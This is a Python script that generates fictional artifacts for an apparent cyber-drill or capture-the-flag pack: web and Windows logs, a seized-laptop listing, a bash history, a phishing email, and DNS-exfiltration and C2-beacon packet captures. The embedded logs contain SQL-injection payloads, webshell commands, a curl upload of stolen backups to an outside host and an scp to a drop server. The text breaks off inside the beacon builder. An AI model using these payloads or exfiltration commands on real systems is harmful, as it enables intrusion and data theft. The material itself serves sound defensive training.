#!/usr/bin/env python3
"""Rebuild every attachment of the drill-demo pack, byte for byte.

Usage:  python challenges/drill-demo/tools/build_artifacts.py [--check]

All data is fictional.  IP addresses come from the documentation ranges
(192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) or private ranges; domain
names end in .example or .local.  No clock and no unseeded randomness are
used: a small SHA-256 counter generator stands in for `random`, so the
output is identical on every Python 3 version and platform.

With --check, nothing is written: the script compares what it would write
with the files on disk and exits non-zero on any difference.
"""
from __future__ import annotations

import base64
import codecs
import csv
import hashlib
import io
import json
import struct
import sys
from datetime import datetime, timedelta
from pathlib import Path

PACK = Path(__file__).resolve().parent.parent


# --------------------------------------------------------------------------
# deterministic helpers
# --------------------------------------------------------------------------
class Rng:
    """Deterministic pseudo-random numbers from SHA-256(seed:counter)."""

    def __init__(self, seed: str):
        self.seed = seed
        self.n = 0

    def _next(self) -> int:
        self.n += 1
        d = hashlib.sha256(f"{self.seed}:{self.n}".encode()).digest()
        return int.from_bytes(d[:8], "big")

    def randint(self, a: int, b: int) -> int:
        return a + self._next() % (b - a + 1)

    def choice(self, seq):
        return seq[self._next() % len(seq)]

    def shuffle(self, items: list) -> list:
        items = list(items)
        for i in range(len(items) - 1, 0, -1):
            j = self._next() % (i + 1)
            items[i], items[j] = items[j], items[i]
        return items


def fake_sha256(label: str) -> str:
    return hashlib.sha256(("drill-demo/" + label).encode()).hexdigest()


OUTPUT: dict[Path, bytes] = {}


def emit(rel: str, data: bytes | str) -> None:
    if isinstance(data, str):
        data = data.encode("utf-8")
    OUTPUT[PACK / rel] = data


# --------------------------------------------------------------------------
# Log analysis: nginx access log (Web Server Intrusion / Webshell Location)
# --------------------------------------------------------------------------
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
]
ATTACKER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
SQLMAP_UA = "sqlmap/1.8.4#stable (https://sqlmap.org)"
NIKTO_UA = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06d})"
SITE = "https://portal.nwa.example"


def build_access_log() -> bytes:
    rng = Rng("access-log")
    base = datetime(2025, 10, 14, 6, 30, 0)
    entries: list[tuple[int, int, str]] = []  # (second offset, tie, line)
    tie = [0]

    def add(sec, ip, method, path, status, size, ref="-", ua=None):
        ts = (base + timedelta(seconds=sec)).strftime("%d/%b/%Y:%H:%M:%S +0000")
        line = f'{ip} - - [{ts}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'
        tie[0] += 1
        entries.append((sec, tie[0], line))

    # --- ordinary visitors --------------------------------------------
    visitors = [f"198.51.100.{n}" for n in (12, 31, 45, 58, 83, 97, 104, 130)] + \
               [f"192.0.2.{n}" for n in (14, 27, 61, 88, 143)]
    pages = [("/", 8412), ("/news.php?id=9", 6120), ("/news.php?id=10", 5874),
             ("/news.php?id=11", 6433), ("/news.php?id=12", 7011), ("/about.html", 4210),
             ("/contact.html", 3388), ("/reports/2025-q3.pdf", 48213),
             ("/outages.php?district=4", 5121), ("/outages.php?district=7", 5096)]
    assets = [("/static/css/main.css", 18233), ("/static/js/app.js", 40112),
              ("/static/img/logo.png", 9120), ("/favicon.ico", 1150)]
    t = 900
    while t < 4800:  # 06:45 - 07:50
        ip = rng.choice(visitors)
        ua = BROWSERS[visitors.index(ip) % len(BROWSERS)]
        page, size = rng.choice(pages)
        ref = rng.choice(["-", "-", SITE + "/", "https://search.example/?q=water+outage"])
        add(t, ip, "GET", page, 200, size + rng.randint(0, 40), ref, ua)
        if page.endswith((".html", "/")) or page.startswith(("/news", "/outages")):
            for a, asz in assets[: rng.randint(1, 4)]:
                st = 200 if rng.randint(0, 5) else 304
                add(t + 1, ip, "GET", a, st, asz if st == 200 else 0, SITE + page, ua)
        t += rng.randint(35, 95)

    # --- noisy scanners (decoys) --------------------------------------
    nikto = "192.0.2.200"
    scan = [("/admin/", 302, 154), ("/phpmyadmin/", 404, 162), ("/.env", 404, 162),
            ("/.git/config", 404, 162), ("/backup.zip", 404, 162),
            ("/uploads/shell.php?cmd=id", 404, 162), ("/cgi-bin/test.cgi", 404, 162),
            ("/server-status", 403, 162), ("/uploads/cmd.php", 404, 162),
            ("/config.php.bak", 404, 162), ("/admin/login.php", 200, 2301)]
    for i, (p, st, sz) in enumerate(scan):
        add(1260 + i * 2, nikto, "GET", p, st, sz, "-", NIKTO_UA.format(100 + i * 37))
    for i, p in enumerate(["/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php",
                           "/wp-content/plugins/revslider/temp/update_extract/x.php"]):
        add(3310 + i * 3, "198.51.100.66", "GET" if i != 1 else "POST", p, 404, 162,
            "-", "python-requests/2.31.0")

    # --- the intrusion (203.0.113.77) ---------------------------------
    atk = "203.0.113.77"
    s = 1920  # 07:02:00
    add(s + 11, atk, "GET", "/news.php?id=12", 200, 7011, "-", ATTACKER_UA)
    add(s + 40, atk, "GET", "/news.php?id=12%27", 500, 612, "-", ATTACKER_UA)
    sqli = [
        "/news.php?id=12%20AND%201%3D1", "/news.php?id=12%20AND%201%3D2",
        "/news.php?id=12%20ORDER%20BY%204--%20-", "/news.php?id=12%20ORDER%20BY%205--%20-",
        "/news.php?id=-1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL%2CNULL--%20-",
        "/news.php?id=-1%20UNION%20ALL%20SELECT%201%2Cschema_name%2C3%2C4%20FROM%20information_schema.schemata--%20-",
        "/news.php?id=-1%20UNION%20ALL%20SELECT%201%2Ctable_name%2C3%2C4%20FROM%20information_schema.tables%20WHERE%20table_schema%3D%27portal%27--%20-",
        "/news.php?id=-1%20UNION%20ALL%20SELECT%201%2Cconcat(login%2C0x3a%2Cpass_md5)%2C3%2C4%20FROM%20portal.staff--%20-",
    ]
    for i, p in enumerate(sqli):
        add(s + 65 + i * 4, atk, "GET", p, 200 if "ORDER%20BY%205" not in p else 500,
            6900 + i * 13, "-", SQLMAP_UA)
    s = 2160  # 07:06:00
    add(s + 12, atk, "GET", "/admin/", 302, 154, "-", ATTACKER_UA)
    add(s + 13, atk, "GET", "/admin/login.php", 200, 2301, "-", ATTACKER_UA)
    add(s + 30, atk, "POST", "/admin/login.php", 302, 154, SITE + "/admin/login.php", ATTACKER_UA)
    add(s + 31, atk, "GET", "/admin/dashboard.php", 200, 11873, SITE + "/admin/login.php", ATTACKER_UA)
    add(s + 62, atk, "GET", "/admin/media.php", 200, 6402, SITE + "/admin/dashboard.php", ATTACKER_UA)
    add(s + 100, atk, "POST", "/admin/media.php?action=upload", 403, 318, SITE + "/admin/media.php", ATTACKER_UA)
    add(s + 101, atk, "GET", "/uploads/2025/10/shell.php", 404, 162, "-", ATTACKER_UA)
    add(s + 135, atk, "POST", "/admin/media.php?action=upload", 200, 402, SITE + "/admin/media.php", ATTACKER_UA)
    shell = "/uploads/2025/10/thumb_cache.php"
    cmds = [("id", 54), ("uname%20-a", 112), ("pwd", 22),
            ("cat%20/var/www/portal/config/db.php", 391),
            ("ls%20-la%20/srv/backups", 644),
            ("tar%20czf%20/tmp/.s.tgz%20/srv/backups/staff_2025-10-13.sql", 0),
            ("curl%20-s%20-T%20/tmp/.s.tgz%20http://198.51.100.201:8080/u/", 17),
            ("rm%20-f%20/tmp/.s.tgz", 0)]
    t = s + 140
    for c, sz in cmds:
        add(t, atk, "GET", f"{shell}?c={c}", 200, sz, "-", ATTACKER_UA)
        t += rng.randint(18, 70)

    entries.sort()
    return ("\n".join(e[2] for e in entries) + "\n").encode()


# --------------------------------------------------------------------------
# Log analysis: Windows Security log exported with Export-Csv (RDP Brute Force)
# --------------------------------------------------------------------------
def build_security_csv() -> bytes:
    rng = Rng("security-csv")
    base = datetime(2025, 10, 14, 1, 0, 0)
    ev: list[tuple[int, list[str]]] = []
    host = "NWA-DC01.nwa.local"
    msgs = {4624: "An account was successfully logged on.",
            4625: "An account failed to log on.",
            4634: "An account was logged off.",
            4672: "Special privileges assigned to new logon."}

    def add(sec, eid, user, ip, ltype, status):
        level = "Information"
        ev.append((sec, [str(eid), level, host, user, ip, ltype, status, msgs[eid]]))

    staff = [("j.orlov", "10.20.3.21"), ("m.chen", "10.20.3.34"), ("s.rahimi", "10.20.3.40"),
             ("d.bekov", "10.20.4.12"), ("l.novak", "10.20.4.19"), ("p.ilves", "10.20.5.44")]
    t = 0
    while t < 9000:
        u, ip = rng.choice(staff)
        if rng.randint(0, 9) == 0:
            add(t, 4625, u, ip, "3", "0xC000006A")
            t += rng.randint(3, 9)
        add(t, 4624, u, ip, "3", "0x0")
        add(t + rng.randint(20, 400), 4634, u, "-", "3", "0x0")
        t += rng.randint(40, 160)

    # decoy: the backup job with a stale password, then fixed
    for i in range(3):
        add(1800 + i * 300, 4625, "svc-backup", "10.20.0.15", "3", "0xC000006A")
    add(3660, 4624, "svc-backup", "10.20.0.15", "3", "0x0")

    # decoy: an internet scanner that never gets in
    for i in range(8):
        add(2700 + i * 41, 4625, "administrator", "192.0.2.150", "10", "0xC000006A")

    # the attack: 198.51.100.23 over RDP
    atk = "198.51.100.23"
    t = 4200  # 02:10:00
    for i in range(12):
        add(t, 4625, "administrator", atk, "10", "0xC000006A"); t += rng.randint(2, 5)
    for name in ("admin", "backup", "nwa-admin", "rdpuser", "scan"):
        add(t, 4625, name, atk, "10", "0xC0000064"); t += rng.randint(2, 5)
    for i in range(37):
        add(t, 4625, "svc-backup", atk, "10", "0xC000006A"); t += rng.randint(2, 6)
    t += 4
    add(t, 4624, "svc-backup", atk, "10", "0x0")
    add(t + 1, 4672, "svc-backup", "-", "-", "-")
    # after the first success: one more failure and a second session
    add(t + 1130, 4625, "svc-backup", atk, "10", "0xC000006A")
    add(t + 1141, 4624, "svc-backup", atk, "10", "0x0")
    add(t + 1142, 4672, "svc-backup", "-", "-", "-")
    add(t + 2900, 4634, "svc-backup", "-", "10", "0x0")

    ev.sort(key=lambda e: e[0])
    # Get-WinEvent returns newest first
    out = io.StringIO()
    w = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    w.writerow(["TimeCreated", "Id", "LevelDisplayName", "MachineName", "TargetUserName",
                "IpAddress", "LogonType", "Status", "Message"])
    for sec, row in reversed(ev):
        ts = base + timedelta(seconds=sec)
        stamp = f"{ts.month}/{ts.day}/{ts.year} {ts.strftime('%I').lstrip('0')}:{ts.strftime('%M:%S %p')}"
        w.writerow([stamp] + row)
    return out.getvalue().encode()


# --------------------------------------------------------------------------
# Forensics: triage file listing of the seized laptop (Disguised Archive)
# --------------------------------------------------------------------------
MAGIC = {
    "jpg": "FF D8 FF E0 00 10 4A 46", "png": "89 50 4E 47 0D 0A 1A 0A",
    "pdf": "25 50 44 46 2D 31 2E 37", "docx": "50 4B 03 04 14 00 06 00",
    "xlsx": "50 4B 03 04 14 00 06 00", "zip": "50 4B 03 04 14 00 00 00",
    "7z": "37 7A BC AF 27 1C 00 04", "exe": "4D 5A 90 00 03 00 00 00",
    "mp4": "00 00 00 20 66 74 79 70", "lnk": "4C 00 00 00 01 14 02 00",
    "txt": "4E 6F 74 65 73 3A 20 62", "kml": "3C 3F 78 6D 6C 20 76 65",
    "ini": "FF FE 5B 00 2E 00 53 00", "dat": "72 65 67 66 A1 05 00 00",
    "gpg": "8C 0D 04 09 03 02 A7 1E", "ods": "50 4B 03 04 14 00 00 08",
}


def build_triage_listing() -> bytes:
    rng = Rng("triage")
    U = r"C:\Users\t.vell"
    files = [  # (parent, name, size, created date, magic override)
        (U, "NTUSER.DAT", 3145728, "2024-03-02", None),
        (U + r"\Desktop", "desktop.ini", 282, "2024-03-02", None),
        (U + r"\Desktop", "Sparrow.lnk", 1371, "2025-07-11", None),
        (U + r"\Desktop", "Tor Browser.lnk", 1403, "2024-12-12", None),
        (U + r"\Desktop", "todo.txt", 412, "2025-09-14", None),
        (U + r"\Documents", "desktop.ini", 402, "2024-03-02", None),
        (U + r"\Documents", "CV_T_Vell_2025.docx", 48211, "2025-01-20", None),
        (U + r"\Documents", "rent_receipts_2025.xlsx", 22104, "2025-02-03", None),
        (U + r"\Documents", "bus_timetable.pdf", 311002, "2024-09-01", None),
        (U + r"\Documents", "notes_meeting.txt", 1893, "2025-09-22", None),
        (U + r"\Documents\work", "leaflet_v3.pdf", 284113, "2025-10-13", None),
        (U + r"\Documents\work", "leaflet_v3_translation.docx", 39220, "2025-10-13", None),
        (U + r"\Documents\work", "contacts_cell4.ods.gpg", 18611, "2025-10-13", None),
        (U + r"\Downloads", "TorBrowser-setup-14.0.exe", 117440512, "2024-12-12", None),
        (U + r"\Downloads", "SparrowSetup-4.2.exe", 88211456, "2025-07-11", None),
        (U + r"\Downloads", "scan_passport.png", 734221, "2025-02-17", "FF D8 FF E1 2F FE 45 78"),
        (U + r"\Downloads", "drivers_pack.zip", 5120340, "2024-12-03", None),
        (U + r"\Downloads", "invoice_0923.pdf", 98110, "2025-09-23", None),
        (U + r"\Downloads", "archive_2024.7z", 9812113, "2025-01-04", None),
        (U + r"\Pictures", "desktop.ini", 504, "2024-03-02", None),
        (U + r"\Pictures\Holiday2024", "IMG_2219.jpg", 3011208, "2024-08-18", None),
        (U + r"\Pictures\Holiday2024", "IMG_2220.jpg", 2894410, "2024-08-18", None),
        (U + r"\Pictures\Holiday2024", "IMG_2226.jpg", 3120775, "2024-08-19", None),
        (U + r"\Pictures\Holiday2024", "IMG_2231.jpg", 2457613, "2025-10-12", "50 4B 03 04 14 00 09 00"),
        (U + r"\Pictures\Holiday2024", "IMG_2234.jpg", 2760031, "2024-08-20", None),
        (U + r"\Pictures\Holiday2024", "beach.png", 1882004, "2024-08-20", None),
        (U + r"\Pictures\Screenshots", "Screenshot 2025-09-30 221544.png", 412880, "2025-09-30", None),
        (U + r"\Pictures\Screenshots", "Screenshot 2025-10-02 074102.png", 398120, "2025-10-02", None),
        (U + r"\Videos", "clip_0412.mp4", 25034112, "2025-04-12", None),
        (U + r"\AppData\Roaming\Sparrow", "settings.dat", 8812, "2025-07-11", None),
        (U + r"\AppData\Roaming\Microsoft\Windows\Recent", "leaflet_v3.pdf.lnk", 1201, "2025-10-13", None),
        (U + r"\AppData\Roaming\Microsoft\Windows\Recent", "IMG_2231.jpg.lnk", 1187, "2025-10-13", None),
        (r"C:\$Recycle.Bin\S-1-5-21-3312-1001", "$R8K2QF1.docx", 30112, "2025-10-01", None),
        (r"C:\$Recycle.Bin\S-1-5-21-3312-1001", "$I8K2QF1.docx", 544, "2025-10-14", "02 00 00 00 00 00 00 00"),
        (r"C:\Windows\System32", "notepad.exe", 360448, "2024-03-01", None),
        (r"C:\Windows\System32", "cmd.exe", 323584, "2024-03-01", None),
        (r"C:\Program Files\7-Zip", "7z.exe", 567808, "2024-03-05", None),
    ]
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\r\n")
    w.writerow(["EntryNumber", "InUse", "ParentPath", "FileName", "Extension", "FileSize",
                "Created0x10", "LastModified0x10", "MagicBytes", "SHA256"])
    entry = 100211
    for parent, name, size, day, magic in files:
        entry += rng.randint(3, 900)
        ext = name.rsplit(".", 1)[-1].lower() if "." in name else ""
        mb = magic or MAGIC.get(ext, "00 00 00 00 00 00 00 00")
        digest = fake_sha256(f"{parent}\\{name}:{size}")
        c = datetime.strptime(day, "%Y-%m-%d") + timedelta(seconds=rng.randint(25_000, 80_000))
        m = c + timedelta(seconds=rng.randint(0, 3_000))
        w.writerow([entry, "True", parent, name, "." + ext if ext else "", size,
                    c.strftime("%Y-%m-%d %H:%M:%S") + ".0000000",
                    m.strftime("%Y-%m-%d %H:%M:%S") + ".0000000", mb, digest])
    return out.getvalue().encode()


# --------------------------------------------------------------------------
# Forensics: WSL bash history (Shell History)
# --------------------------------------------------------------------------
def build_bash_history() -> bytes:
    cmds = [
        "cd ~/work", "ls -la", "cat todo.txt",
        "alias wipe='shred -u -z -n 3'",
        "alias ll='ls -alF'",
        "ll",
        "gpg --symmetric --cipher-algo AES256 contacts_cell4.ods",
        "ls -la contacts_cell4.ods*",
        "shred -u contacts_cell4.ods",
        "scp -P 2222 contacts_cell4.ods.gpg drop@198.51.100.201:/in/",
        "cp contacts_cell4.ods.gpg /mnt/c/Users/t.vell/Documents/work/",
        "cp leaflet_v3.pdf /mnt/c/Users/t.vell/Documents/work/",
        "rm -f leaflet_draft_v2.pdf",
        "man shred",
        "shred --help",
        "sha256sum leaflet_v3.pdf",
        "wipe routes_q4.kml",
        "ls",
        "echo 'TODO: shred payroll_cell4.csv after meeting' >> todo.txt",
        "cp funding_sept.xlsx /mnt/e/",
        "shred -n 5 -z -u ~/work/funding_sept.xlsx",
        "ll /mnt/e/",
        "# shred -u old_keys.txt",
        "history | grep scp",
        "exit",
    ]
    t = 1760382000  # 2025-10-13 19:00:00 UTC
    rng = Rng("bash")
    lines = []
    for c in cmds:
        t += rng.randint(4, 240)
        lines.append(f"#{t}")
        lines.append(c)
    return ("\n".join(lines) + "\n").encode()


# --------------------------------------------------------------------------
# Forensics: spoofed email (.eml)
# --------------------------------------------------------------------------
def build_eml() -> bytes:
    html = ("<html><body><p>Dear colleagues,</p>\n"
            "<p>Due to a change in the exercise plan, all national teams must confirm\n"
            "their access to the new scoring portal before 09:00 UTC.</p>\n"
            "<p><a href=\"https://drill-hq-schedule.example/confirm?team=nwa\">Confirm access</a></p>\n"
            "<p>Drill Coordination Centre</p></body></html>\n")
    text = ("Dear colleagues,\n\n"
            "Due to a change in the exercise plan, all national teams must confirm\n"
            "their access to the new scoring portal before 09:00 UTC:\n\n"
            "  https://drill-hq-schedule.example/confirm?team=nwa\n\n"
            "Drill Coordination Centre\n")
    b = "==_drill_7c1e0f52a9"
    msg = f"""Return-Path: <bounce-8812@mailer.kestrel-post.example>
Delivered-To: soc@nwa.example
Received: from mx1.nwa.example (mx1.nwa.example [10.20.0.25])
	by mail.nwa.example (Postfix) with ESMTPS id 4QF1x27Lm0z9vQ
	for <soc@nwa.example>; Tue, 14 Oct 2025 07:42:19 +0000 (UTC)
Authentication-Results: mx1.nwa.example;
	spf=fail (domain of coord@drill-hq.example does not designate 198.51.100.140 as permitted sender) smtp.mailfrom=coord@drill-hq.example;
	dkim=none;
	dmarc=fail (p=QUARANTINE) header.from=drill-hq.example
Received: from smtp-out2.kestrel-post.example (smtp-out2.kestrel-post.example [198.51.100.140])
	by mx1.nwa.example (Postfix) with ESMTP id 4QF1x26Zk1z9vN
	for <soc@nwa.example>; Tue, 14 Oct 2025 07:42:18 +0000 (UTC)
Received: from submit.kestrel-post.example (submit.kestrel-post.example [10.9.0.12])
	by smtp-out2.kestrel-post.example (KestrelMTA 3.1) with ESMTP id 88a1c0d3
	for <soc@nwa.example>; Tue, 14 Oct 2025 07:42:17 +0000
Received: from [192.168.1.34] (unknown [203.0.113.45])
	(Authenticated sender: promo-7741@kestrel-post.example)
	by submit.kestrel-post.example (KestrelMTA 3.1) with ESMTPSA id 1f2e9b77
	for <soc@nwa.example>; Tue, 14 Oct 2025 07:42:16 +0000
Received: from mail.drill-hq.example (mail.drill-hq.example [192.0.2.10])
	by relay.drill-hq.example (Postfix) with ESMTP id 7D2A1C0FFEE
	for <soc@nwa.example>; Tue, 14 Oct 2025 07:40:02 +0000 (UTC)
X-Originating-IP: [203.0.113.45]
X-Kestrel-Account: promo-7741
X-Mailer: Microsoft Outlook 16.0
Message-ID: <20251014074216.5531.drillhq@submit.kestrel-post.example>
Date: Tue, 14 Oct 2025 07:42:10 +0000
From: "Drill Coordination Centre" <coord@drill-hq.example>
Reply-To: "Drill Coordination Centre" <drill.coord.centre@kestrel-post.example>
To: soc@nwa.example
Subject: URGENT: updated exercise schedule - confirm portal access
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="{b}"

--{b}
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

{text}
--{b}
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{_b64wrap(html.encode())}
--{b}--
"""
    return msg.encode()


def _b64wrap(data: bytes, width: int = 76) -> str:
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))


# --------------------------------------------------------------------------
# pcap helpers (libpcap, Ethernet, IPv4, UDP/TCP, DNS)
# --------------------------------------------------------------------------
def _csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def _ip4(a: str) -> bytes:
    return bytes(int(x) for x in a.split("."))


class Pcap:
    MAC = {}

    def __init__(self):
        self.records: list[bytes] = []
        self.ipid = 0x1a2b

    def _mac(self, ip: str) -> bytes:
        # hosts on 10.20.x.x get their own MAC, everything else goes via the gateway
        if ip.startswith("10.20."):
            h = hashlib.sha256(ip.encode()).digest()[:3]
            return b"\x00\x15\x5d" + h
        return b"\x00\x1c\x73\x4e\x20\x01"  # gateway

    def packet(self, ts: float, src: str, dst: str, proto: int, l4: bytes, ttl=64):
        self.ipid = (self.ipid + 1) & 0xFFFF
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), self.ipid, 0x4000,
                          ttl, proto, 0, _ip4(src), _ip4(dst))
        hdr = hdr[:10] + struct.pack("!H", _csum(hdr)) + hdr[12:]
        eth = self._mac(dst) + self._mac(src) + b"\x08\x00"
        frame = eth + hdr + l4
        sec = int(ts)
        usec = int(round((ts - sec) * 1_000_000))
        self.records.append(struct.pack("<IIII", sec, usec, len(frame), len(frame)) + frame)

    def udp(self, ts, src, sport, dst, dport, payload: bytes, ttl=64):
        ln = 8 + len(payload)
        u = struct.pack("!HHHH", sport, dport, ln, 0) + payload
        pseudo = _ip4(src) + _ip4(dst) + struct.pack("!BBH", 0, 17, ln)
        c = _csum(pseudo + u) or 0xFFFF
        u = u[:6] + struct.pack("!H", c) + u[8:]
        self.packet(ts, src, dst, 17, u, ttl)

    def tcp(self, ts, src, sport, dst, dport, seq, ack, flags: str, payload=b"", ttl=64):
        fl = 0
        for ch, bit in (("F", 1), ("S", 2), ("R", 4), ("P", 8), ("A", 16)):
            if ch in flags:
                fl |= bit
        t = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                        5 << 4, fl, 64240, 0, 0) + payload
        pseudo = _ip4(src) + _ip4(dst) + struct.pack("!BBH", 0, 6, len(t))
        t = t[:16] + struct.pack("!H", _csum(pseudo + t)) + t[18:]
        self.packet(ts, src, dst, 6, t, ttl)

    def bytes(self) -> bytes:
        gh = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
        return gh + b"".join(self.records)


def _qname(name: str) -> bytes:
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def dns_query(txid: int, name: str, qtype: int = 1) -> bytes:
    return struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + _qname(name) + struct.pack("!HH", qtype, 1)


def dns_response(txid: int, name: str, answers: list[tuple], qtype: int = 1, rcode: int = 0) -> bytes:
    """answers: list of (owner_name or None for qname, type, ttl, rdata-value)."""
    flags = 0x8180 | rcode
    body = _qname(name) + struct.pack("!HH", qtype, 1)
    for owner, rtype, ttl, value in answers:
        body += (b"\xc0\x0c" if owner is None else _qname(owner))
        rdata = _ip4(value) if rtype == 1 else _qname(value)
        body += struct.pack("!HHIH", rtype, 1, ttl, len(rdata)) + rdata
    return struct.pack("!HHHHHH", txid, flags, 1, len(answers), 0, 0) + body


# --------------------------------------------------------------------------
# Network: DNS exfiltration (Whispers over DNS)
# --------------------------------------------------------------------------
def build_dns_pcap() -> bytes:
    rng = Rng("dns-pcap")
    p = Pcap()
    client, resolver = "10.20.5.44", "10.20.0.53"
    secret = b"cell4 roster uploaded; ack code DRILL{dn5_subd0ma1ns_c4rry_d4ta}"
    chunk = 12
    chunks = [secret[i:i + chunk] for i in range(0, len(secret), chunk)]
    exfil = [f"{i:02d}.{c.hex()}.sync.cdn-metrics.example" for i, c in enumerate(chunks)]
    order = rng.shuffle(list(range(len(exfil))))
    order.insert(3, order[1])  # one chunk is retransmitted
    benign = [("www.nwa.example", "10.20.1.10"), ("portal.nwa.example", "10.20.1.12"),
              ("time.windows-sync.example", "192.0.2.123"), ("update.os-vendor.example", "198.51.100.7"),
              ("mail.nwa.example", "10.20.0.26"), ("cdn-metrics.example", "203.0.113.200"),
              ("news.search.example", "192.0.2.77")]
    plan: list[tuple[str, str | None]] = []
    bi = 0
    for k, idx in enumerate(order):
        if k % 2 == 0 and bi < len(benign):
            plan.append(benign[bi]); bi += 1
        plan.append((exfil[idx], None))
    plan += benign[bi:]
    ts = 1760426523.104211  # 2025-10-14 07:22:03 UTC
    for name, addr in plan:
        txid = rng.randint(1, 0xFFFF)
        sport = rng.randint(49152, 65000)
        qtype = 16 if addr is None else 1
        p.udp(ts, client, sport, resolver, 53, dns_query(txid, name, qtype), ttl=128)
        ts += rng.randint(900, 30000) / 1_000_000
        if addr is None:
            resp = dns_response(txid, name, [], qtype=16, rcode=3)
        else:
            resp = dns_response(txid, name, [(None, 1, 300, addr)])
        p.udp(ts, resolver, 53, client, sport, resp)
        ts += rng.randint(200_000, 2_400_000) / 1_000_000
    return p.bytes()


# --------------------------------------------------------------------------
# Network: C2 beacon (Beacon Home)
# --------------------------------------------------------------------------
def build_beacon_pcap() -> bytes:
    p = Pcap()
    ws, dns = "10.20.5.44", "10.20.0.53"
    ts = 1760428801.250000  # 2025-10-14 08:00:01 UTC

    def tcp_session(ts, srv, sport, isn_c, isn_s, request: bytes, response: bytes, sttl=52):
        p.tcp(ts, ws, sport, srv, 80, isn_c, 0, "S", ttl=128); ts += 0.041
        p.tcp(ts, srv, 80, ws, sport, isn_s, isn_c + 1, "SA", ttl=sttl); ts += 0.0004
        p.tcp(ts, ws, sport, srv, 80, isn_c + 1, isn_s + 1, "A", ttl=128); ts += 0.0009
        p.tcp(ts, ws, sport, srv, 80, isn_c + 1, isn_s + 1, "PA", request, ttl=128); ts += 0.087
        p.tcp(ts, srv, 80, ws, sport, isn_s + 1, isn_c + 1 + len(request), "PA", response, ttl=sttl); ts += 0.0011
        p.tcp(ts, ws, sport, srv, 80, isn_c + 1 + len(request), isn_s + 1 + len(response), "FA", ttl=128); ts += 0.040
        p.tcp(ts, srv, 80, ws, sport, isn_s + 1 + len(response), isn_c + 2 + len(request), "FA", ttl=sttl); ts += 0.0003
        p.tcp(ts, ws, sport, srv, 80, isn_c + 2 + len(request), isn_s + 2 + len(response), "A", ttl=128)
        return ts

    # benign: intranet page
    p.udp(ts, ws, 53001, dns, 53, dns_query(0x3c11, "intranet.nwa.example"), ttl=128); ts += 0.0021
    p.udp(ts, dns, 53, ws, 53001, dns_response(0x3c11, "intranet.nwa.example", [(None, 1, 3600, "10.20.1.10")])); ts += 0.01
    req = (b"GET /news/today HTTP/1.1\r\nHost: intranet.nwa.example\r\n"
           b"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36\r\n"
           b"Accept: text/html\r\nConnection: close\r\n\r\n")
    body = b"<html><body><h1>NWA intranet</h1><p>Exercise day 1: stay alert.</p></body></html>\n"
    resp = (b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: "
            + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
    ts = tcp_session(ts, "10.20.1.10", 50110, 0x2d11a0f3, 0x7a6b0c01, req, resp, sttl=64) + 3.2

    # the implant resolves its C2 name: CNAME to a CDN edge with two A records
    c2 = "telemetry.norvane-update.example"
    edge = "edge7.fastedge-cdn.example"
    p.udp(ts, ws, 53002, dns, 53, dns_query(0x9e42, c2), ttl=128); ts += 0.0187
    p.udp(ts, dns, 53, ws, 53002, dns_response(0x9e42, c2, [
        (None, 5, 120, edge), (edge, 1, 60, "198.51.100.171"), (edge, 1, 60, "198.51.100.172")])); ts += 0.004
    # first address refuses the connection
    p.tcp(ts, ws, 50112, "198.51.100.171", 80, 0x51c0ffee, 0, "S", ttl=128); ts += 0.039
    p.tcp(ts, "198.51.100.171", 80, ws, 50112, 0, 0x51c0ffef, "RA", ttl=52); ts += 0.5
    p.tcp(ts, ws, 50112, "198.51.100.171", 80, 0x51c0ffee, 0, "S", ttl=128); ts += 0.039
    p.tcp(ts, "198.51.100.171", 80, ws, 50112, 0, 0x51c0ffef, "RA", ttl=52); ts += 0.2
    # ...so the beacon goes to the second one
    beacon_body = b"id=NWA-WS-044&os=win10-22h2&user=p.ilves&v=1.3&seq=1"
    req = (b"POST /api/v2/telemetry HTTP/1.1\r\nHost: " + c2.encode() + b"\r\n"
           b"User-Agent: Mozilla/4.0 (compatible; NorvUpd/1.3)\r\n"
           b"Content-Type: application/x-www-form-urlencoded\r\n"
           b"Content-Length: " + str(len(beacon_body)).encode() + b"\r\nConnection: close\r\n\r\n" + beacon_body)
    body = b"sleep=300;jitter=20;task=none\n"
